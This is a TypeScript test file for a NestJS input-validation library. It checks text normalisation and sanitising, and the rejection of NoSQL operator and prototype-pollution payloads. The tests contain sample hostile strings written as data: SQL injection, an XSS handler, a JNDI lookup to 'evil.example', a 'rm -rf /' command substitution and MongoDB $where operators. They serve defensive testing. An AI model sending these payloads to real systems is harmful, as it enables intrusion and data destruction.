import { Body, Controller, Get, Post, Query } from '@nestjs/common';
import { Transform, Type } from 'class-transformer';
import {
  ArrayMaxSize,
  IsObject,
  IsOptional,
  IsString,
  Length,
  MaxLength,
  ValidateNested,
} from 'class-validator';
import { AnyNames, NormalizeUnicode, PlainText, Public, Trim } from 'nestjs-api-security';
import { SanitizeHtml } from 'nestjs-api-security/sanitize-html';
import { afterEach, describe, expect, it } from 'vitest';

import { ADAPTERS, closeApps } from '../../support/bare-app.js';
import { type ErrorEnvelope, send } from '../../support/http-client.js';
import { startSecured } from '../../support/secured-app.js';
import { bodyOf, queryOf, strict, verdictOf } from '../verdict.js';

const add = (end: string): PropertyDecorator =>
  Transform(({ value }: { value: unknown }) => (typeof value === 'string' ? value + end : value));

class Part {
  @Trim()
  @Length(1, 5)
  name!: string;
}

class Texts {
  @IsOptional()
  @Trim()
  @Length(1, 5)
  name?: string;

  @IsOptional()
  @Length(1, 5)
  @Trim()
  below?: string;

  @IsOptional()
  @add('1')
  @add('2')
  @Trim()
  @add(' 3 ')
  order?: string;

  @IsOptional()
  @NormalizeUnicode('NFKC')
  @MaxLength(5)
  folded?: string;

  @IsOptional()
  @NormalizeUnicode()
  @Trim()
  @SanitizeHtml('inline', { maxLength: 40 })
  html?: string;

  @IsOptional()
  @Trim()
  @ArrayMaxSize(3)
  @Length(1, 5, { each: true })
  @IsString({ each: true })
  tags?: string[];

  @IsOptional()
  @ValidateNested({ each: true })
  @Type(() => Part)
  parts?: Part[];
}

const inBody = (value: object) => verdictOf(strict, value, bodyOf(Texts));

describe('changes of texts', () => {
  it('R-IV-08 come before the rules, wherever they stand, and in the order that is written, the upper first', async () => {
    expect((await inBody({ name: '  a b \n', below: ' c ' })).value).toMatchObject({
      name: 'a b',
      below: 'c',
    });
    expect((await inBody({ name: '     ' })).broken).toEqual(['name isLength']);
    expect((await inBody({ order: ' x' })).value).toMatchObject({ order: 'x12 3 ' });
    expect((await inBody({ folded: 'ａﬁ①' })).value).toMatchObject({ folded: 'afi1' });
    expect((await inBody({ folded: 'ﷺ' })).broken).toEqual(['folded maxLength']);
  });

  it('R-IV-08 need no other conversion in the class', async () => {
    const { value } = await verdictOf(strict, { name: ' c ' }, bodyOf(Part));
    expect(value).toEqual({ name: 'c' });
    expect(value).toBeInstanceOf(Part);
  });

  it('R-IV-08 reach lists and nested objects', async () => {
    const { value } = await inBody({ tags: [' a ', 'b '], parts: [{ name: ' c ' }] });
    expect(value).toMatchObject({ tags: ['a', 'b'], parts: [{ name: 'c' }] });
    expect((value as Texts).parts?.[0]).toBeInstanceOf(Part);
    expect((await inBody({ parts: [{ name: ' ' }] })).broken).toEqual(['parts[0].name isLength']);
  });

  it.each([
    [{ name: 5 }, 'name'],
    [{ name: [' a '] }, 'name'],
    [{ name: { $gt: '' } }, 'name'],
    [{ html: { $ne: null } }, 'html'],
    [{ name: null }, 'name'],
    [{ tags: ' a ' }, 'tags'],
    [{ tags: [5] }, 'tags'],
    [{ tags: [{ $gt: '' }] }, 'tags[0]'],
    [{ tags: ['a', 'b', 'c', 'd'] }, 'tags'],
  ])('R-IV-12 R-IV-25 leave what is no text for the rules to refuse: %j', async (value, path) => {
    const verdict = await inBody(value);
    expect(verdict).toMatchObject({ status: 400, code: 'VALIDATION_FAILED' });
    expect(verdict.details[0]?.path).toBe(path);
  });

  it('R-IV-12 R-IV-18 leave lists lists and single values single', async () => {
    expect((await verdictOf(strict, { tags: ' a ' }, queryOf(Texts))).value).toMatchObject({ tags: ['a'] });
    expect((await verdictOf(strict, { name: ['a', 'b'] }, queryOf(Texts))).broken).toEqual(['name isSingle']);
  });

  it('R-IV-16 piled marks, which would take seconds to normalise, stay as they are', async () => {
    const text = 'a' + '\u0327\u0301'.repeat(20_000);
    const began = performance.now();
    expect((await inBody({ folded: text })).broken).toEqual(['folded maxLength']);
    expect(performance.now() - began).toBeLessThan(300);
  });

  it('R-IV-23 HTML that is too long, before or after, is refused', async () => {
    expect((await inBody({ html: ' <b onclick=x>hi</b><script>x</script> ' })).value).toMatchObject({
      html: '<b>hi</b>',
    });
    expect((await inBody({ html: '<'.repeat(41) })).broken).toEqual(['html sanitizeHtml']);
    expect((await inBody({ html: '&'.repeat(40) })).broken).toEqual(['html sanitizeHtml']);
    expect((await inBody({ html: `${' '.repeat(99)}hi` })).value).toMatchObject({ html: 'hi' });
  });
});

class NoteDto {
  @PlainText({ maxLength: 2_000, multiline: true })
  text!: string;

  @IsOptional()
  @IsObject()
  extra?: Record<string, unknown>;

  @IsOptional()
  @IsObject()
  @AnyNames()
  words?: Record<string, unknown>;
}

@Controller('notes')
@Public()
class NotesController {
  @Post()
  create(@Body() note: NoteDto): NoteDto {
    return note;
  }

  @Post('name')
  named(@Body('name') name: string): string[] {
    return [name];
  }

  @Get()
  find(@Query('q') q: string): string[] {
    return [q];
  }
}

const FREE_TEXT = [
  "O'Brien <3 a && b",
  "' OR 1=1 --",
  '{"$where":"sleep(1000)"}',
  '<img src=x onerror=alert(1)>',
  '${jndi:ldap://evil.example/a}',
  '{{constructor.constructor("x")()}}',
  '%s%n%x',
  'undefined',
  '¯\\_(ツ)_/¯\r\n\tö',
  '1;DROP TABLE users',
  '($(rm -rf /))',
  '√∫≤ 田中さん 😍 שלום \u200dZWJ',
];

describe.each(ADAPTERS)('contexts on %s', (adapter) => {
  afterEach(closeApps);

  it('R-IV-22 R-IV-25 text comes back as it was sent; an object is no text', async () => {
    const { port } = await startSecured(adapter, {}, { controllers: [NotesController] });
    for (const text of FREE_TEXT) {
      expect(await send(port, 'POST', '/notes', { json: { text } })).toMatchObject({
        status: 201,
        json: { text },
      });
    }
    const operators: unknown[] = [
      { $gt: '' },
      { $ne: null },
      { $regex: '.*' },
      { $where: '1' },
      ['a'],
      [{ $gt: '' }],
      { length: 5 },
      { toString: 'x' },
    ];
    for (const text of operators) {
      const { status, json } = await send<ErrorEnvelope>(port, 'POST', '/notes', { json: { text } });
      expect([status, json.error.code], JSON.stringify(text)).toEqual([400, 'VALIDATION_FAILED']);
      expect((await send(port, 'POST', '/notes/name', { json: { name: text } })).status).toBe(400);
    }
    for (const query of ['q[$gt]=', 'q[]=a', 'q[a][$ne]=1', 'q=a&q=b', 'q.$gt=']) {
      expect((await send(port, 'GET', `/notes?${query}`)).status, query).toBe(400);
    }
  });

  it('R-IV-25 names of operators are refused even where any object may come', async () => {
    const { port } = await startSecured(adapter, {}, { controllers: [NotesController] });
    const post = (extra: object) =>
      send<ErrorEnvelope>(port, 'POST', '/notes', { json: { text: 'a', extra } });
    expect((await post({ a: { b: [1, { c: '$gt' }] } })).status).toBe(201);
    for (const extra of [
      { $gt: '' },
      { a: { $where: '1' } },
      { a: [{ $ne: 1 }] },
      { 'a.b': 1 },
      { a: { 'b.$': 1 } },
    ]) {
      const { status, json } = await post(extra);
      expect([status, json.error.code], JSON.stringify(extra)).toEqual([400, 'UNEXPECTED_FIELDS']);
    }
    const words = { 'page.title': { $key: ['a'] } };
    expect(await send(port, 'POST', '/notes', { json: { text: 'a', words } })).toMatchObject({
      json: { words },
    });
    const polluting = '{"text":"a","words":{"constructor":{"a":1}}}';
    const headers = { 'content-type': 'application/json' };
    expect((await send(port, 'POST', '/notes', { body: polluting, headers })).status).toBe(400);
  });
});
